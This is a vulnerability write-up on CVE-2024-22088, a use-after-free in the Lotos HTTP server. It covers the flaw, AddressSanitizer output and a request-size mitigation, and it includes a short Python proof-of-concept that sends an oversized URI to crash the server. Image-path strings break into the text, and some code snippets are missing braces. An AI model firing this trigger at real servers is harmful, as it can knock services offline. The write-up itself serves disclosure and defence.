Zero-Day Research: CVE-2024-22088 Lotos HTTP Server Use-After-Free

In the realm of cybersecurity, uncovering vulnerabilities is a critical part of securing software applications. Recently, while conducting fuzz tests, Istumbled upon a significant security flaw in the Lotos HTTP server. This new vulnerability, tracked as CVE-2024-22088, poses a remote use-after-free risk. In this blog post, we will delve into the details of this issue, explore its implications, and discuss potential mitigations.

What is CVE-2024-22088?

CVE-2024-22088 is a security vulnerability I discovered in the Lotos HTTP server. This flaw can be traced back to commit 3eb36cc in the function buffer_avail located at buffer.h, line 25. Let’s take a closer look at the problematic code:

static inline size_t buffer_avail(const buffer_t *pb) { return pb->free; }

This seemingly innocent line of code hides a critical weakness that can be exploited remotely. Any project using the Lotos HTTP server, including its forks, could potentially be vulnerable to this issue.

Understanding Use-After-Free Bugs

Before we dive deeper into the specifics of CVE-2024-22088, it’s essential to grasp the concept of “use-after-free” bugs. These bugs occur when a program continues to use a memory location after it has been freed. Here’s how it typically happens:

  1. Memory Allocation: The program allocates memory for an object or data structure, creating a pointer to thatmemory.
  2. Deallocation: At some point, the program deallocates or frees the previously allocated memory.
  3. Improper Use: Despite the memory being freed, the program mistakenly continues to use the pointer to access that memory location.

This improper usage of memory can lead to unpredictable behavior, crashes, or, as in our case, security vulnerabilities. Consider the following example:

#include <stdio.h>
#include <stdlib.h>

int main() {
    int *ptr = (int *)malloc(sizeof(int));  // Allocate memory for an integer
    if (ptr == NULL) {
        fprintf(stderr, "Memory allocation failed.\n");
        return 1;

    *ptr = 42;  //Assign a value to the allocated memory
    printf("Value: %d\n", *ptr);  // Print the value

    free(ptr);  // Deallocate the memory

    // Attempting to access the freed memory (use-after-free)
    printf("Value: %d\n", *ptr);  // Accessing the freed memory

    return 0;


  1. We start by including the necessary header files for standard input and output (stdio.h) and memory allocation (stdlib.h).
  2. Inside the main function, we declare an integer pointer ptr.
  3. We use the malloc function to allocate memory for an integer. The sizeof(int) is used to determine the size of memory to allocate, which is typically the size of an integer on the platform.
  4. We check if the memory allocation was successful by comparing ptr to NULL. If malloc fails to allocate memory, it returns NULL, and we print an error message to the standard error stream (stderr) and exit with a non-zero status code.
  5. We assign the value 42 to the memory location pointed to by ptr.6. We use printf to print the value stored at the memory location pointed to by ptr. This should print “Value: 42” to the console.
  7. Next, we call free(ptr) to deallocate the previously allocated memory. The memory is now marked as freed, and the pointer ptr still holds the address of the freed memory.
  8. The critical part of the code comes next. We attempt to access the memory pointed to by ptr after it has been freed. This is the use-after-free bug. We again try to print the value using printf, but this time it accesses the freed memory.

Accessing freed memory is bad for several reasons, primarily because it can lead to undefined behavior and various security and reliability issues. Here are some key reasons why accessingfreed memory is problematic:

  1. Undefined Behavior: When you access memory that has been freed, the behavior of your program is undefined. This means there are no guarantees about what will happen. Your program may crash immediately, or it may appear to work fine while silently corrupting dataor introducing subtle bugs. Undefined behavior can be extremely difficult to diagnose and debug.
  2. Data Corruption: Accessing freed memory can overwrite data that other parts of your program are using. This can lead to data corruption, causing unexpected and incorrect results in your program’s operation. It may also affect the integrity of data structures, potentially causing crashes or vulnerabilities.
  3. Security Vulnerabilities: Use-after-free bugs can be exploited by attackers to gain control of your program or execute malicious code. If an attacker can control the data that is written to the freed memory location, they can potentially execute arbitrary code or manipulate the program’s behavior, leading to securityvulnerabilities.
  4. Crashes and Instability: Even if your program doesn’t immediately crash when accessing freed memory, it can lead to instability. Memory-related bugs like use-after-free can cause intermittent crashes, making your program unreliable and frustrating for users.
  5. Memory Leaks: Paradoxically, accessing freed memory can also mask memory leaks. When you access memory that has already been freed, you might inadvertentlykeep references to that memory, preventing it from beingproperly deallocated. This can lead to memory leaks over time, where your program consumes more and more memory without releasing it.
  6. Platform and Compiler Variability: The behavior of accessing freed memory can vary between different compilers, operating systems, and hardware platforms. What might seem to work on one system canbreak on another, leading to portability issues.
  7. Difficulty in Debugging: Identifying and debugging use-after-free bugs can be challenging. Since the symptoms of these bugs can be inconsistent and appear at different points in your program’s execution, tracking down the root cause can be time-consuming and frustrating.

To avoid these issues, it’s crucial to follow proper memory management practices in your code. Always free memory only once, ensure that pointers are not used after the memory they point to has been deallocated, and consider using modern techniques like smart pointers in C++ or memory management tools like AddressSanitizer to catch these issues early during development.

Hunting For CVE-2024-22088

After running a series of fuzz tests on the Lotos HTTP server, I identified acrucial security issue. The vulnerability occurs in the buffer_avail function, which is subsequently called from the buffer_cat function in the buffer.c file. The critical access point occurs after a call to realloc in the buffer_cat function:

/* realloc */
size_t cur_len = buffer_len(pb);
size_t new_len = cur_len + nbyte;
/* realloc strategy */
if (new_len < BUFFER_LIMIT)
    new_len *= 2;
    new_len += BUFFER_LIMIT;

npb = realloc(pb, sizeof(buffer_t) + new_len + 1);

The problem arises when realloc is called. If the new size cannot fit in the existing memory space, realloc may move the memory block to a new location. Consequently, the original pointer to the buffer (buffer_t *pb) could become invalid if realloc moves the memory.

After reallocation, any existing pointers to the old memory location become invalid. If you attempt to use the oldpointer (pb) without updating it to the new memory location returned by realloc, it leads to undefined behavior. This is precisely what AddressSanitizer, a tool for finding memory-related bugs, is catching in the Lotos HTTP server.

Proof of Concept and Exploitation

To demonstrate the vulnerability, I’ve prepared a Python3 script thatsends a crafted HTTP request to the Lotos HTTP server:

#!/usr/bin/env python3

import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
sock.connect(("localhost", 8888))
sock.send(b"GET /"+b"?"*20000+b" HTTP/1.1\r\nHost:localhost:8001\r\n\r\n")
response = sock.recv(4096)

Running this script sends an HTTP request with a URI containing 20,000 bytes to the Lotos server, triggering the use-after-free vulnerability.

Address Sanitizer Output

When the use-after-free vulnerability is exploited, AddressSanitizer generates an error report that points to the problematic code:

==415636==ERROR: AddressSanitizer: heap-use-after-free on address 0x625000002904 at pc 0x5585539a14ec bp 0x7ffc148a9370 sp 0x7ffc148a9368
READ of size 4 at 0x625000002904 thread T0

The report identifies the exact location of the issue in the buffer_avail function and traces it back to the buffer_cat function in the buffer.c file.

Mitigation Strategies

Addressing this vulnerability is crucial to maintaining the security of projects using the Lotos HTTP server. A potential mitigation strategy involves adding a check to the request.c file. Specifically, you can modify the code in line 130 as follows:

if (len == ERROR || len > 5000) {

This code change ensures that all incoming requests larger than a specified size (e.g., 5000 bytes) are dropped. Adjust the threshold value according to your specific needs, keeping in mind that the use-after-free vulnerability occurs at approximately 8154 bytes in the URI.


CVE-2024-22088 serves as a stark reminder of the importance of thorough security testing and constant vigilance in the world of software development. Understanding the intricacies of use-after-free vulnerabilities and implementing appropriate mitigation strategies is essential for safeguarding your projects frompotential threats.

For further information onsimilar vulnerabilities and best practices in security testing, you can refer to the following resources:

Stayvigilant, keep your software up-to-date, andprioritize security in every step of your development journey.

For the official CVE record, visit CVE-2024-22088.

No responses yet

Leave a Reply

Your email address will not be published. Required fields are marked *

LatestComments

No comments to show.